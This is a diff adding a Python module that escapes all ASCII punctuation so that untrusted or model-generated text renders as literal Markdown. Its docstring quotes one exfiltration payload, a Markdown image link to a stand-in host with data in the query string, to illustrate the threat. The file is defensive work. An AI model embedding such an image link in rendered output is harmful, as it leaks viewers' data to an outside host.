@@ -1,0 +1,26 @@
+"""Text from a file, a user or a model placed inside Markdown so that it shows exactly as written: never a link,
+an image, HTML or formatting. A screenplay line such as `![x](http://host/leak.png?d=…)` rendered as Markdown makes
+every viewer's browser fetch that address; escaped, it is only text."""
+
+from __future__ import annotations
+
+import string
+
+# CommonMark lets any ASCII punctuation be backslash-escaped, and an escaped character is always literal. Escaping
+# all of it (not a hand-picked few) also breaks GFM's bare-URL autolinks (`http\:`, `www\.`), e-mail autolinks,
+# Streamlit's `:colour[…]` directives and `$…$` math.
+_PUNCTUATION = frozenset(string.punctuation)
+
+
+def escape_markdown(text: str) -> str:
+    """`text` as literal Markdown on one line (line breaks become spaces), e.g. inside a title or a caption."""
+    return _escaped(" ".join(text.splitlines()))
+
+
+def escape_markdown_block(text: str) -> str:
+    """`text` as literal Markdown keeping its lines (each line break becomes a hard break)."""
+    return "  \n".join(_escaped(line) for line in text.splitlines())
+
+
+def _escaped(text: str) -> str:
+    return "".join("\\" + char if char in _PUNCTUATION else char for char in text)
